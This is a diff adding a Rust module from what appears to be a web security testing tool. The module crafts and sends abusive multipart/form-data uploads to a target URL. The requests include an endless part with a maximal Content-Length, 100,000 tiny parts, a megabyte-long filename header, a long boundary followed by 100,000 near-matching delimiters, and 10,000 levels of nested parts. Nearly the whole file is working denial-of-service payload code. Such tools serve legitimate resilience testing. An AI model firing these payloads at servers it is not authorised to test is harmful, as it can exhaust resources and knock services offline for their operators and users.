@@ -0,0 +1,151 @@
+use crate::{classify, classify_written, send_payload, target_url, write_attack_body, Payload};
+use common::{env::Env, http, tcp::connect, Result};
+use std::{cmp::max, iter};
+
+const BOUNDARY: &str = "sec_tool_belt";
+const FORM_DATA: &str = "multipart/form-data; boundary=sec_tool_belt";
+// RFC 2046 limits boundaries to 70 characters
+const LONG_BOUNDARY: &str =
+    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";
+const LONG_FORM_DATA: &str =
+    "multipart/form-data; boundary=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";
+const NESTED_FORM_DATA: &str = "multipart/form-data; boundary=level0";
+
+const PART_COUNT: usize = 100_000;
+// 2^20
+const HEADER_LENGTH: usize = 0x0010_0000;
+const NEAR_MATCHES: usize = 100_000;
+const NESTING_DEPTH: usize = 10_000;
+
+pub(crate) async fn multipart_abuse(env: &Env) -> Result<i32> {
+    let url = upload_url(env);
+    let mut code = endless_part(env, url).await?;
+    let payloads = [
+        tiny_parts(),
+        long_part_header(),
+        long_boundary(),
+        nested_parts(),
+    ];
+    for payload in &payloads {
+        let response = send_payload(env, url, payload).await?;
+        code = max(code, classify(env, payload.name, response).await);
+    }
+    Ok(code)
+}
+
+fn upload_url(env: &Env) -> &str {
+    env.url_upload
+        .as_ref()
+        .map_or_else(|| target_url(env), String::as_str)
+}
+
+async fn endless_part(env: &Env, url: &str) -> Result<i32> {
+    let mut stream = connect(&env.fqdn_with_port, env.encrypted, true).await?;
+    http::write_post_message(&mut stream, &url).await?;
+    http::write_host(&mut stream, &env.fqdn_with_port).await?;
+    http::write_user_agent(&mut stream).await?;
+    http::write_content_type(&mut stream, &FORM_DATA).await?;
+    http::write_content_length(&mut stream, usize::max_value()).await?;
+    http::write_header_end(&mut stream).await?;
+    http::write_body(&mut stream, part_header("file", Some("endless"))).await?;
+
+    let size = write_attack_body(&mut stream).await?;
+    Ok(classify_written(Some("endless part"), size))
+}
+
+fn part_header(name: &str, filename: Option<&str>) -> String {
+    let disposition = match filename {
+        Some(filename) => format!(
+            "form-data; name=\"{}\"; filename=\"{}\"\r\nContent-Type: application/octet-stream",
+            name, filename
+        ),
+        None => format!("form-data; name=\"{}\"", name),
+    };
+    format!(
+        "--{}\r\nContent-Disposition: {}\r\n\r\n",
+        BOUNDARY, disposition
+    )
+}
+
+fn closing_boundary(boundary: &str) -> String {
+    format!("\r\n--{}--\r\n", boundary)
+}
+
+/// `PART_COUNT` parts containing a single byte each
+fn tiny_parts() -> Payload {
+    let mut data = String::new();
+    for index in 0..PART_COUNT {
+        if index > 0 {
+            data.push_str("\r\n");
+        }
+        data.push_str(&part_header(&format!("a{}", index), None));
+        data.push('x');
+    }
+    data.push_str(&closing_boundary(BOUNDARY));
+    Payload {
+        name: "tiny parts",
+        content_type: FORM_DATA,
+        content_encoding: None,
+        data: data.into_bytes(),
+    }
+}
+
+/// A single part whose filename is `HEADER_LENGTH` bytes long
+fn long_part_header() -> Payload {
+    let filename: String = iter::repeat('a').take(HEADER_LENGTH).collect();
+    let mut data = part_header("file", Some(&filename));
+    data.push('x');
+    data.push_str(&closing_boundary(BOUNDARY));
+    Payload {
+        name: "long part header",
+        content_type: FORM_DATA,
+        content_encoding: None,
+        data: data.into_bytes(),
+    }
+}
+
+/// A boundary at the maximum length and a part which is full of
+/// delimiters that only differ from it in the last character
+fn long_boundary() -> Payload {
+    let near_match = format!("\r\n--{}y", &LONG_BOUNDARY[1..]);
+    let mut data = format!(
+        "--{}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"boundary\"\r\n\r\n",
+        LONG_BOUNDARY
+    );
+    data.push_str(&near_match.repeat(NEAR_MATCHES));
+    data.push_str(&closing_boundary(LONG_BOUNDARY));
+    Payload {
+        name: "long boundary",
+        content_type: LONG_FORM_DATA,
+        content_encoding: None,
+        data: data.into_bytes(),
+    }
+}
+
+/// `NESTING_DEPTH` levels of multipart/mixed parts
+fn nested_parts() -> Payload {
+    let mut data = String::from(
+        "--level0\r\nContent-Disposition: form-data; name=\"file\"\r\nContent-Type: multipart/mixed; boundary=level1\r\n\r\n",
+    );
+    for level in 1..NESTING_DEPTH {
+        data.push_str(&format!(
+            "--level{}\r\nContent-Type: multipart/mixed; boundary=level{}\r\n\r\n",
+            level,
+            level + 1
+        ));
+    }
+    data.push_str(&format!(
+        "--level{0}\r\nContent-Type: text/plain\r\n\r\nx\r\n--level{0}--",
+        NESTING_DEPTH
+    ));
+    for level in (0..NESTING_DEPTH).rev() {
+        data.push_str(&format!("\r\n--level{}--", level));
+    }
+    data.push_str("\r\n");
+    Payload {
+        name: "nested parts",
+        content_type: NESTED_FORM_DATA,
+        content_encoding: None,
+        data: data.into_bytes(),
+    }
+}